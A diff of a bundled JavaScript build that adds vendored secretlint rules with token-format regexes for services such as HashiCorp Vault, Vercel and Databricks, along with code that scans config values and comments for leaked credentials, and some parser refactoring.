+      "YOUR_USERNAME",
+      "REPLACE_WITH_PASSWORD"
+    ];
+    creator$7 = {
+      messages: messages$6,
+      meta: {
+        id: "@secretlint/secretlint-rule-database-connection-string",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-database-connection-string/README.md"
+        }
+      },
+      create(context, options2) {
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        const t2 = context.createTranslator(messages$6);
+        return {
+          file(source) {
+            reportMongoDBConnectionString({ source, options: normalizedOptions, context, t: t2 });
+            reportMySQLConnectionString({ source, options: normalizedOptions, context, t: t2 });
+            reportPostgreSQLConnectionString({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$5 = {
+      HASHICORP_VAULT_SERVICE_TOKEN: {
+        en: (props) => `found HashiCorp Vault service token: ${props.TOKEN}`,
+        ja: (props) => `HashiCorp Vault service token: ${props.TOKEN} がみつかりました`
+      },
+      HASHICORP_VAULT_BATCH_TOKEN: {
+        en: (props) => `found HashiCorp Vault batch token: ${props.TOKEN}`,
+        ja: (props) => `HashiCorp Vault batch token: ${props.TOKEN} がみつかりました`
+      },
+      HASHICORP_VAULT_RECOVERY_TOKEN: {
+        en: (props) => `found HashiCorp Vault recovery token: ${props.TOKEN}`,
+        ja: (props) => `HashiCorp Vault recovery token: ${props.TOKEN} がみつかりました`
+      }
+    };
+    serviceTokenPattern = new RegExp("(?<!\\p{L})hvs\\.[A-Za-z0-9_-]{90,120}(?![A-Za-z0-9_-])", "gu");
+    batchTokenPattern = new RegExp("(?<!\\p{L})hvb\\.[A-Za-z0-9_-]{138,300}(?![A-Za-z0-9_-])", "gu");
+    recoveryTokenPattern = new RegExp("(?<!\\p{L})hvr\\.[A-Za-z0-9_-]{90,120}(?![A-Za-z0-9_-])", "gu");
+    creator$6 = {
+      messages: messages$5,
+      meta: {
+        id: "@secretlint/secretlint-rule-hashicorp-vault",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-hashicorp-vault/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$5);
+        const normalizedOptions = {
+          allows: options2?.allows ?? []
+        };
+        const reportMatches = (source, pattern, messageId) => {
+          const matches2 = source.content.matchAll(pattern);
+          for (const match2 of matches2) {
+            const index = match2.index ?? 0;
+            const matchString = match2[0] ?? "";
+            const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+            if (allowedResults.length > 0) {
+              continue;
+            }
+            const range3 = [index, index + matchString.length];
+            context.report({
+              message: t2(messageId, {
+                TOKEN: matchString
+              }),
+              range: range3
+            });
+          }
+        };
+        return {
+          file(source) {
+            reportMatches(source, serviceTokenPattern, "HASHICORP_VAULT_SERVICE_TOKEN");
+            reportMatches(source, batchTokenPattern, "HASHICORP_VAULT_BATCH_TOKEN");
+            reportMatches(source, recoveryTokenPattern, "HASHICORP_VAULT_RECOVERY_TOKEN");
+          }
+        };
+      }
+    };
+    messages$4 = {
+      VERCEL_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found Vercel personal access token: ${props.ID}`,
+        ja: (props) => `Vercel personal access token: ${props.ID} がみつかりました`
+      },
+      VERCEL_INTEGRATION_TOKEN: {
+        en: (props) => `found Vercel integration token: ${props.ID}`,
+        ja: (props) => `Vercel integration token: ${props.ID} がみつかりました`
+      },
+      VERCEL_APP_ACCESS_TOKEN: {
+        en: (props) => `found Vercel app access token: ${props.ID}`,
+        ja: (props) => `Vercel app access token: ${props.ID} がみつかりました`
+      },
+      VERCEL_APP_REFRESH_TOKEN: {
+        en: (props) => `found Vercel app refresh token: ${props.ID}`,
+        ja: (props) => `Vercel app refresh token: ${props.ID} がみつかりました`
+      },
+      VERCEL_AI_GATEWAY_API_KEY: {
+        en: (props) => `found Vercel AI Gateway API key: ${props.ID}`,
+        ja: (props) => `Vercel AI Gateway API key: ${props.ID} がみつかりました`
+      }
+    };
+    prefixToMessageId = {
+      vcp: "VERCEL_PERSONAL_ACCESS_TOKEN",
+      vci: "VERCEL_INTEGRATION_TOKEN",
+      vca: "VERCEL_APP_ACCESS_TOKEN",
+      vcr: "VERCEL_APP_REFRESH_TOKEN",
+      vck: "VERCEL_AI_GATEWAY_API_KEY"
+    };
+    creator$5 = {
+      messages: messages$4,
+      meta: {
+        id: "@secretlint/secretlint-rule-vercel",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-vercel/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$4);
+        const normalizedOptions = {
+          allows: options2?.allows ?? []
+        };
+        return {
+          file(source) {
+            const pattern = new RegExp("(?<!\\p{L})(?<prefix>vcp|vci|vca|vcr|vck)_[A-Za-z0-9]{20,60}(?![A-Za-z0-9])", "gu");
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const prefix2 = match2.groups?.prefix;
+              const messageId = prefixToMessageId[prefix2];
+              const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+              if (allowedResults.length > 0) {
+                continue;
+              }
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2(messageId, {
+                  ID: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    messages$3 = {
+      DATABRICKS_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found Databricks personal access token: ${props.ID}`,
+        ja: (props) => `Databricks personal access token: ${props.ID} がみつかりました`
+      }
+    };
+    creator$4 = {
+      messages: messages$3,
+      meta: {
+        id: "@secretlint/secretlint-rule-databricks",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-databricks/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$3);
+        const normalizedOptions = {
+          allows: options2?.allows ?? []
+        };
+        return {
+          file(source) {
+            const pattern = new RegExp("(?<!\\p{L})dapi[A-Fa-f0-9]{32}(?:-[0-9])?(?![A-Fa-f0-9])", "gu");
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+              if (allowedResults.length > 0) {
+                continue;
+              }
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2("DATABRICKS_PERSONAL_ACCESS_TOKEN", {
+                  ID: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    messages$2 = {
+      DOCKER_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found Docker Personal Access Token: ${props.TOKEN}`,
+        ja: (props) => `Docker Personal Access Token: ${props.TOKEN} がみつかりました`
+      }
+    };
+    creator$3 = {
+      messages: messages$2,
+      meta: {
+        id: "@secretlint/secretlint-rule-docker",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-docker/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$2);
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        return {
+          file(source) {
+            reportIfFoundDockerPAT({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$1 = {
+      FIGMA_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found Figma Personal Access Token: ${props.ID}`,
+        ja: (props) => `Figma Personal Access Token: ${props.ID} がみつかりました`
+      }
+    };
+    creator$2 = {
+      messages: messages$1,
+      meta: {
+        id: "@secretlint/secretlint-rule-figma",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-figma/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$1);
+        const normalizedOptions = {
+          allows: options2?.allows ?? []
+        };
+        return {
+          file(source) {
+            const pattern = new RegExp("(?<!\\p{L})figd_[A-Za-z0-9_-]{40,200}(?![A-Za-z0-9_-])", "gu");
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+              if (allowedResults.length > 0) {
+                continue;
+              }
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2("FIGMA_PERSONAL_ACCESS_TOKEN", {
+                  ID: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    HTML_COMMENT_REGEXP = /(?<type>secretlint-(?:disable-next-line|disable-line|disable|enable))(?<options>.*)/g;
+    parseComments = (source) => {
+      const matches2 = source.content.matchAll(HTML_COMMENT_REGEXP);
+      return Array.from(matches2).map((match2) => {
+        const type = match2.groups?.type;
+        const index = match2.index;
+        if (type === "secretlint-disable-line") {
+          return {
+            type,
+            options: parseComment(match2.groups?.options),
+            line: source.indexToPosition(index).line
+          };
+        }
+        if (type === "secretlint-disable-next-line") {
+          return {
+            type,
+            options: parseComment(match2.groups?.options),
+            line: source.indexToPosition(index).line + 1
+          };
+        }
+        return {
+          type,
+          options: parseComment(match2.groups?.options),
+          index
+        };
+      });
+    };
+    CommentState = class {
+      source;
+      reportingConfig;
+      endIndex;
+      constructor(source) {
+        this.source = source;
+        this.reportingConfig = [];
+        this.endIndex = source.content.length;
+      }
+      getIgnoringMessages() {
+        const isFilledMessage = (message4) => {
+          return message4.startIndex !== null && message4.endIndex !== null && message4.ruleId !== null;
+        };
+        return this.reportingConfig.map((reporting) => {
+          if (reporting.endIndex === null) {
+            reporting.endIndex = this.endIndex;
+          }
+          return reporting;
+        }).filter(isFilledMessage);
+      }
+      disableLine(lineNumber, rulesToDisable) {
+        const reportingConfig = this.reportingConfig;
+        const range3 = this.source.locationToRange({
+          start: {
+            line: lineNumber,
+            column: 0
+          },
+          end: {
+            line: lineNumber + 1,
+            column: 0
+          }
+        });
+        if (rulesToDisable.length) {
+          rulesToDisable.forEach((ruleId) => {
+            reportingConfig.push({
+              startIndex: range3[0],
+              endIndex: range3[1] - 1,
+              ruleId
+            });
+          });
+        } else {
+          reportingConfig.push({
+            startIndex: range3[0],
+            endIndex: range3[1] - 1,
+            ruleId: "*"
+          });
+        }
+      }
+      /**
+       * Add data to reporting configuration to disable reporting for list of rules
+       * starting from start location
+       * @returns {void}
+       */
+      disableReporting(startIndex, rulesToDisable) {
+        const reportingConfig = this.reportingConfig;
+        if (rulesToDisable.length) {
+          rulesToDisable.forEach(function(ruleId) {
+            reportingConfig.push({
+              startIndex,
+              endIndex: null,
+              ruleId
+            });
+          });
+        } else {
+          reportingConfig.push({
+            startIndex,
+            endIndex: null,
+            ruleId: "*"
+          });
+        }
+      }
+      /**
+       * Add data to reporting configuration to enable reporting for list of rules
+       * starting from start location
+       */
+      enableReporting(endIndex, rulesToEnable) {
+        const reportingConfig = this.reportingConfig;
+        if (rulesToEnable.length) {
+          rulesToEnable.forEach(function(ruleId) {
+            for (let i = reportingConfig.length - 1; i >= 0; i--) {
+              if (!reportingConfig[i].endIndex && reportingConfig[i].ruleId === ruleId) {
+                reportingConfig[i].endIndex = endIndex;
+                break;
+              }
+            }
+          });
+        } else {
+          let prevStart;
+          for (let i = reportingConfig.length - 1; i >= 0; i--) {
+            if (prevStart && prevStart !== reportingConfig[i].startIndex) {
+              break;
+            }
+            if (!reportingConfig[i].endIndex) {
+              reportingConfig[i].endIndex = endIndex;
+              prevStart = reportingConfig[i].startIndex;
+            }
+          }
+        }
+      }
+    };
+    messages = {
+      IGNORE_MESSAGE: {
+        en: () => `disable by secretlint-disable comment`
+      }
+    };
+    creator$1 = {
+      messages,
+      meta: {
+        id: "@secretlint/secretlint-rule-filter-comments",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-filter-comments/README.md"
+        }
+      },
+      create(context) {
+        const t2 = context.createTranslator(messages);
+        return {
+          file(source) {
+            const state = new CommentState(source);
+            const comments = parseComments(source);
+            for (const comment of comments) {
+              if (comment.type === "secretlint-disable") {
+                state.disableReporting(comment.index, comment.options);
+              } else if (comment.type === "secretlint-enable") {
+                state.enableReporting(comment.index, comment.options);
+              } else if (comment.type === "secretlint-disable-line") {
+                state.disableLine(comment.line, comment.options);
+              } else if (comment.type === "secretlint-disable-next-line") {
+                state.disableLine(comment.line, comment.options);
+              }
+            }
+            state.getIgnoringMessages().forEach((message4) => {
+              context.ignore({
+                message: t2("IGNORE_MESSAGE"),
+                range: [message4.startIndex, message4.endIndex],
+                targetRuleId: message4.ruleId
+              });
+            });
+          }
+        };
+      }
+    };
+    rules = [
+      creator$p,
+      creator$o,
+      creator$e,
+      creator$n,
+      creator$l,
+      creator$m,
+      creator$d,
+      creator$c,
+      creator$b,
+      creator$a,
+      creator$9,
+      creator$k,
+      creator$j,
+      creator$i,
+      creator$h,
+      creator$g,
+      creator$f,
+      creator$8,
+      creator$7,
+      creator$6,
+      creator$5,
+      creator$4,
+      creator$3,
+      creator$2,
+      creator$1
+    ];
+    creator = {
+      meta: {
+        id: "@secretlint/secretlint-rule-preset-recommend",
+        recommended: true,
+        type: "preset"
+      },
+      rules,
+      create(context, _options) {
+        rules.forEach((rule) => {
+          context.registerRule(rule);
+        });
+      }
+    };
+  }
+});
+
+// src/domains/config/credentials.ts
+async function credentialsIn(texts2) {
+  const found = /* @__PURE__ */ new Map();
+  const candidates = [...new Set(texts2)].filter((text4) => MAY_HOLD.test(text4) && !DIGEST.test(text4));
+  for (const batch of batches(candidates)) {
+    const content = batch.map(({ text: text4 }) => text4).join(BETWEEN);
+    for (const { ruleId, range: range3 } of await lint(content)) {
+      const holder = batch.find(({ start: start2, text: text4 }) => range3[0] >= start2 && range3[1] <= start2 + text4.length);
+      if (holder === void 0 || found.has(holder.text)) continue;
+      found.set(holder.text, nameOf3(ruleId));
+    }
+  }
+  return found;
+}
+function* batches(texts2) {
+  let batch = [];
+  let start2 = 0;
+  for (const text4 of texts2) {
+    if (batch.length > 0 && start2 + text4.length > LONGEST4) {
+      yield batch;
+      [batch, start2] = [[], 0];
+    }
+    batch.push({ text: text4, start: start2 });
+    start2 += text4.length + BETWEEN.length;
+  }
+  if (batch.length > 0) yield batch;
+}
+async function lint(content) {
+  const [{ lintSource: lintSource2 }, { creator: creator2 }] = await Promise.all([
+    Promise.resolve().then(() => (init_module2(), module_exports)),
+    Promise.resolve().then(() => (init_module3(), module_exports2))
+  ]);
+  const rules8 = creator2.rules.filter(({ meta }) => !LEFT_OUT.test(meta.id));
+  const preset = {
+    ...creator2,
+    rules: rules8,
+    create: (context) => rules8.forEach((rule) => context.registerRule(rule))
+  };
+  const { messages: messages2 } = await lintSource2({
+    source: { filePath: "values.txt", ext: ".txt", contentType: "text", content },
+    options: { noPhysicFilePath: true, maskSecrets: true, config: { rules: [{ id: creator2.meta.id, rule: preset }] } }
+  });
+  return messages2;
+}
+var MAY_HOLD, DIGEST, LONGEST4, LEFT_OUT, BETWEEN, nameOf3;
+var init_credentials = __esm({
+  "src/domains/config/credentials.ts"() {
+    "use strict";
+    MAY_HOLD = / = .*\S{16}/s;
+    DIGEST = /^\S* = (?:[\w./:-]+@)?(?:sha256:)?[0-9a-f]{40,64}$/;
+    LONGEST4 = 2e6;
+    LEFT_OUT = /-(?:filter-comments|basicauth|database-connection-string)$/;
+    BETWEEN = "\n\n";
+    nameOf3 = (ruleId) => `${ruleId.replace(/^.*secretlint-rule-/, "").replaceAll("-", " ")} credential`;
   }
 });
 
@@ -18338,9 +23988,9 @@ var init_mask = __esm({
     CONTROL = /^(?:\{\{|\{%)[-+]?\s*(if|else if|else|end|with|range|for|elif|endif|endfor)\b\s*([\s\S]*?)\s*[-+]?(?:\}\}|%\})$/;
     LONGEST_CONDITION = 1e3;
     ENDS = /* @__PURE__ */ new Set(["else", "end", "endif", "endfor"]);
-    isTemplate2 = (text4, path25) => text4.includes("{{") || text4.includes("{%") ? /(?:^|\/)templates\//.test(path25) || TEMPLATE_LINE.test(text4) : false;
+    isTemplate2 = (text4, path26) => text4.includes("{{") || text4.includes("{%") ? /(?:^|\/)templates\//.test(path26) || TEMPLATE_LINE.test(text4) : false;
     loosened = (line2) => line2.replace(GLUED, "$1 ");
-    unmask = (text4) => text4.replace(/[\ue001-\ue07e]/g, (char) => String.fromCharCode(char.charCodeAt(0) - STAND_IN));
+    unmask = (text4) => text4.replace(/[\ue001-\ue07e]/g, (char) => String.fromCharCode(char.charCodeAt(0) - STAND_IN)).replace(/\{\{(?:-(?=[ \t]))?[ \t]{0,8}/g, "{{ ").replace(/[ \t]{0,8}(?:[ \t]-)?\}\}/g, " }}");
     standIns = (action2) => action2.replace(
       /[^\n\r]/g,
       (char) => /[ -~]/.test(char) ? String.fromCharCode(STAND_IN + char.charCodeAt(0)) : OTHER
@@ -18390,9 +24040,9 @@ var init_plant = __esm({
         if ((0, import_yaml2.isAlias)(node2)) return this.#follow(node2);
         if (node2.anchor === void 0) return this.#growOwn(node2, line2);
         this.#anchors.set(node2.anchor, "growing");
-        const grown = this.#growOwn(node2, line2);
-        this.#anchors.set(node2.anchor, grown);
-        return grown;
+        const grown2 = this.#growOwn(node2, line2);
+        this.#anchors.set(node2.anchor, grown2);
+        return grown2;
       }
       #growOwn(node2, line2) {
         if ((0, import_yaml2.isMap)(node2)) return this.#growMap(node2, line2);
@@ -18407,9 +24057,9 @@ var init_plant = __esm({
         for (const { key: key4, value } of node2.items) {
           const name = this.#nameOf(key4);
           const keyLine = (0, import_yaml2.isNode)(key4) ? this.#lineOf(key4) : line2;
-          const grown = (0, import_yaml2.isNode)(value) ? this.grow(value, (0, import_yaml2.isAlias)(value) ? void 0 : keyLine) : nothing2(keyLine);
-          if (name === "<<" && grown.kind !== "scalar") merged.push(...grown.kind === "list" ? grown.items : [grown]);
-          else enter2(name, grown, keyLine);
+          const grown2 = (0, import_yaml2.isNode)(value) ? this.grow(value, (0, import_yaml2.isAlias)(value) ? void 0 : keyLine) : nothing2(keyLine);
+          if (name === "<<" && grown2.kind !== "scalar") merged.push(...grown2.kind === "list" ? grown2.items : [grown2]);
+          else enter2(name, grown2, keyLine);
         }
         for (const source of merged) this.#merge(entries2, source);
         return { kind: "map", entries: entries2, ...this.#placed(node2, line2, [...entries2.values()]) };
@@ -18596,10 +24246,10 @@ function typed(text4) {
   return NUMBER.test(text4) ? Number(text4) : text4;
 }
 function unescaped2(text4) {
-  if (text4 === void 0 || !text4.includes("\\")) return text4 && folded(text4);
+  if (text4 === void 0 || !text4.includes("\\")) return text4 && folded2(text4);
   return /^(?:[^\\\p{Cc}]|\\(?:["\\/bfnrt]|u[\da-fA-F]{4}))*$/u.test(text4) ? String(JSON.parse(`"${text4}"`)) : void 0;
 }
-function folded(text4) {
+function folded2(text4) {
   if (!text4.includes("\n")) return text4;
   return text4.replace(/[ \t]*\n[ \t\n]*/g, (gap) => "\n".repeat(gap.split("\n").length - 2) || " ");
 }
@@ -18609,7 +24259,7 @@ function dedented(lines) {
   const isEven = lines.every((line2) => line2.startsWith(indent) || indent.startsWith(line2));
   return isEven ? lines.map((line2) => line2.slice(indent.length)) : void 0;
 }
-var NULL, BOOLEAN, NUMBER, readPlain, QUOTED, LONGEST3, readQuoted, readLiteral, trimmed;
+var NULL, BOOLEAN, NUMBER, readPlain, QUOTED, LONGEST5, readQuoted, readLiteral, trimmed;
 var init_scalars = __esm({
   "src/domains/config/block-yaml/scalars.ts"() {
     "use strict";
@@ -18632,11 +24282,11 @@ var init_scalars = __esm({
       return { text: text4, lines: below7.length };
     };
     QUOTED = /^(?:'([^']*(?:''[^']*)*)'|"([^"\\]*(?:\\.[^"\\]*)*)")(?:[ \t]+#.*|[ \t]*)$/;
-    LONGEST3 = 1e5;
+    LONGEST5 = 1e5;
     readQuoted = (first, below7) => {
       const written3 = [first, ...below7].join("\n");
-      const [, single, double] = written3.length > LONGEST3 ? [] : QUOTED.exec(written3) ?? [];
-      const text4 = single === void 0 ? unescaped2(double) : folded(single).replaceAll("''", "'");
+      const [, single, double] = written3.length > LONGEST5 ? [] : QUOTED.exec(written3) ?? [];
+      const text4 = single === void 0 ? unescaped2(double) : folded2(single).replaceAll("''", "'");
       return text4 === void 0 ? void 0 : { text: text4, lines: below7.length };
     };
     readLiteral = (first, below7) => {
@@ -18800,6 +24450,48 @@ var init_read = __esm({
       }
     };
     onlyOne = (root) => root?.kind === "map" && root.entries.size > 1 ? void 0 : at(root, "x") ?? itemsAt(root)[0];
+  }
+});
+
+// src/domains/config/placeholders.ts
+var isPlaceholder;
+var init_placeholders = __esm({
+  "src/domains/config/placeholders.ts"() {
+    "use strict";
+    isPlaceholder = (text4) => /example|sample|change[-_]?(?:me|it)|placeholder|dummy|redacted|replace|insert|your[-_ ]|todo|foobar|<[^>]*>|\*{3}|x{4}|\.{3}|0{6}|123456|abcdef$/i.test(
+      text4
+    );
+  }
+});
+
+// src/domains/config/comments.ts
+function credentialsInComments(text4, isJson2) {
+  const [mark, comment] = isJson2 ? ["/", JSON_COMMENT] : ["#", YAML_COMMENT];
+  if (!text4.includes(mark)) return [];
+  const comments = text4.split("\n").flatMap((line2, index) => {
+    const [said14] = line2.length <= LONGEST6 && comment.exec(line2) || [];
+    return said14 === void 0 ? [] : [{ said: said14, line: index + 1 }];
+  });
+  const all = comments.map(({ said: said14 }) => said14).join("\n");
+  const patterns = PROVEN.filter(({ pattern }) => pattern.test(all));
+  return comments.flatMap(({ said: said14, line: line2 }) => patterns.flatMap((each) => markOf(each, said14, line2)));
+}
+function markOf({ name, pattern }, comment, line2) {
+  const [found] = pattern.exec(comment) ?? [];
+  if (found === void 0 || isPlaceholder(found)) return [];
+  return [{ text: `${name} ${digest(`breakwater:${found}`).slice(0, 6)}`, line: line2 }];
+}
+var PROVEN, YAML_COMMENT, JSON_COMMENT, LONGEST6;
+var init_comments = __esm({
+  "src/domains/config/comments.ts"() {
+    "use strict";
+    init_present();
+    init_secrets();
+    init_placeholders();
+    PROVEN = SECRET_PATTERNS.filter(({ name }) => name !== "password in a URL");
+    YAML_COMMENT = /(?:^|\s)#.*$/;
+    JSON_COMMENT = /\/[/*].*$|^\s*\*.*$/;
+    LONGEST6 = 1e4;
   }
 });
 
@@ -19825,13 +25517,29 @@ var init_json = __esm({
 });
 
 // src/domains/config/parse.ts
-function parse3(text4, path25, placed2 = (line2) => line2) {
+function parse3(text4, path26, placed2 = (line2) => line2) {
   if (text4.length > LIMITS2.characters) throw new Unreadable("it is longer than 5 MB");
-  const template = !isJson(path25) && isTemplate2(text4, path25);
-  const { text: readable, conditions } = template ? mask(text4) : { text: text4, conditions: [] };
-  const read4 = isJson(path25) ? [readJson(text4)] : readDocuments(readable, placed2, template);
-  const documents = read4.flatMap((planted) => planted ? apart(planted) : []).map(({ root, duplicates }) => ({ path: path25, isTemplate: template, root, duplicates }));
-  return { path: path25, documents, several: read4.length > 1 || documents.length > 1, conditions };
+  if (isJson(path26)) return fileOf([readJson(text4)], { path: path26, text: text4 });
+  if (!isTemplate2(text4, path26)) return fileOf(readDocuments(text4, placed2, false), { path: path26, text: text4 });
+  const { text: readable, conditions } = mask(text4);
+  const read4 = ifReadable(() => readDocuments(readable, placed2, true));
+  if ("found" in read4) return fileOf(read4.found, { path: path26, text: text4, conditions, isTemplate: true });
+  const plain = ifReadable(() => readDocuments(text4, placed2, false));
+  if ("found" in plain) return fileOf(plain.found, { path: path26, text: text4 });
+  throw read4.error;
+}
+function fileOf(read4, { path: path26, text: text4, conditions = [], isTemplate: template = false }) {
+  const documents = read4.flatMap((planted) => planted ? apart(planted) : []).map(({ root, duplicates }) => ({ path: path26, isTemplate: template, root, duplicates }));
+  const several = read4.length > 1 || documents.length > 1;
+  return { path: path26, documents, several, conditions, inComments: credentialsInComments(text4, isJson(path26)) };
+}
+function ifReadable(read4) {
+  try {
+    return { found: read4() };
+  } catch (error) {
+    if (error instanceof Unreadable) return { error };
+    throw error;
+  }
 }
 function readDocuments(text4, placed2, template) {
   if (NEEDS_ALL.test(text4)) return compose(text4, placed2, template);
@@ -19866,12 +25574,13 @@ var init_parse = __esm({
     "use strict";
     init_errors();
     init_read();
+    init_comments();
     init_compose2();
     init_json();
     init_limits();
     init_mask();
     init_tree();
-    isJson = (path25) => /\.jsonc?$/i.test(path25);
+    isJson = (path26) => /\.jsonc?$/i.test(path26);
     NEEDS_ALL = /^(?:%|\.\.\.)|\r|^\ufeff/m;
     BARE_MARK = /^---[ \t]*(?:#.*)?$/;
   }
@@ -19909,7 +25618,7 @@ var init_properties = __esm({
 
 // src/domains/config/nested.ts
 function nestedIn(scalar3) {
-  if (typeof scalar3.value !== "string" || scalar3.text.length > LONGEST4 || scalar3.text.length < 3) return void 0;
+  if (typeof scalar3.value !== "string" || scalar3.text.length > LONGEST7 || scalar3.text.length < 3) return void 0;
   if (!known.has(scalar3)) known.set(scalar3, read2(scalar3));
   return known.get(scalar3);
 }
@@ -19930,14 +25639,14 @@ function readYaml2(text4, placed2) {
     throw error;
   }
 }
-var LONGEST4, COMMENTS, BEGINS_JSON, BEGINS_YAML, BEGINS_PROPERTIES, known;
+var LONGEST7, COMMENTS, BEGINS_JSON, BEGINS_YAML, BEGINS_PROPERTIES, known;
 var init_nested = __esm({
   "src/domains/config/nested.ts"() {
     "use strict";
     init_errors();
     init_parse();
     init_properties();
-    LONGEST4 = 2e4;
+    LONGEST7 = 2e4;
     COMMENTS = /^(?:[ \t]*(?:[#!].*)?\n)*/;
     BEGINS_JSON = /^\s*[{[]/;
     BEGINS_YAML = /^(?:- +)?["']?[\w./-]+["']?:(?:[ \t].*)?\n/;
@@ -19990,32 +25699,6 @@ var init_level = __esm({
   }
 });
 
-// src/domains/config/pairing.ts
-function pairByLikeness(before3, after2, nodeOf2, least) {
-  const few = before3.length * after2.length <= MOST_COMPARISONS3;
-  const candidates = (few ? before3 : []).flatMap((old) => after2.map((now) => ({ old, now, score: likeness(nodeOf2(old), nodeOf2(now)) }))).filter(({ score: score2 }) => score2 >= least);
-  const taken2 = /* @__PURE__ */ new Set();
-  const partners = /* @__PURE__ */ new Map();
-  for (const { old, now } of candidates.toSorted((a, b3) => b3.score - a.score)) {
-    if (taken2.has(old) || partners.has(now)) continue;
-    taken2.add(old);
-    partners.set(now, old);
-  }
-  return [
-    ...after2.map((now) => withPartner(now, partners.get(now))),
-    ...before3.filter((old) => !taken2.has(old)).map((old) => ({ before: old }))
-  ];
-}
-var MOST_COMPARISONS3, withPartner;
-var init_pairing = __esm({
-  "src/domains/config/pairing.ts"() {
-    "use strict";
-    init_likeness();
-    MOST_COMPARISONS3 = 1e4;
-    withPartner = (after2, before3) => before3 === void 0 ? { after: after2 } : { before: before3, after: after2 };
-  }
-});
-
 // src/domains/config/list-items.ts
 function pairItems(before3, after2, identify2) {
   const steps3 = stepsOf2([before3, after2], identify2);
@@ -20028,7 +25711,7 @@ function pairTheRest(before3, after2) {
   const [from3, to2] = [before3[0], after2[0]];
   const areNamed = [...before3, ...after2].some(({ step: step3 }) => step3.kind === "item" && step3.name !== void 0);
   if (from3 && to2 && before3.length === 1 && after2.length === 1 && !areNamed) return [{ before: from3, after: to2 }];
-  return pairByLikeness(before3, after2, ({ node: node2 }) => node2, areNamed ? RENAMED : EDITED);
+  return pairByLikeness(before3, after2, ({ node: node2 }) => node2, areNamed ? RENAMED2 : EDITED);
 }
 function stepsOf2(lists, identify2) {
   const shared2 = IDENTITY_KEYS.find((key4) => lists.every((list3) => tellsApart(key4, list3.items)));
@@ -20042,7 +25725,7 @@ function tellsApart(key4, items) {
   const values2 = new Set(items.map((item2) => textAt(item2, key4)));
   return values2.size === items.length && !values2.has(void 0);
 }
-var IDENTITY_KEYS, EDITED, RENAMED, LARGE, senseOf, itemsOfOne, itemsOf;
+var IDENTITY_KEYS, EDITED, RENAMED2, LARGE, senseOf, itemsOfOne, itemsOf;
 var init_list_items = __esm({
   "src/domains/config/list-items.ts"() {
     "use strict";
@@ -20065,7 +25748,7 @@ var init_list_items = __esm({
       "path"
     ];
     EDITED = 0.3;
-    RENAMED = 0.6;
+    RENAMED2 = 0.6;
     LARGE = 500;
     senseOf = (node2) => node2.size > LARGE ? "large" : signature(node2);
     itemsOfOne = (list3, identify2) => itemsOf(list3, stepsOf2([list3], identify2));
@@ -20074,8 +25757,8 @@ var init_list_items = __esm({
 });
 
 // src/domains/config/diff.ts
-function diff(pair2, dialect26) {
-  const walk = new Walk(pair2, dialect26);
+function diff(pair2, dialect26, evidence = noEvidence) {
+  const walk = new Walk(pair2, dialect26, evidence);
   walk.visit({ ...ROOT, before: pair2.before?.root, after: pair2.after?.root });
   return walk.edits;
 }
@@ -20087,6 +25770,7 @@ var init_diff = __esm({
     init_level();
     init_likeness();
     init_list_items();
+    init_evidence();
     init_renames();
     init_setting();
     ROOT = { path: [], keys: [], owner: "kept", inSchema: false, isNested: false };
@@ -20094,9 +25778,11 @@ var init_diff = __esm({
       edits = [];
       #pair;
       #dialect;
-      constructor(pair2, dialect26) {
+      #evidence;
+      constructor(pair2, dialect26, evidence) {
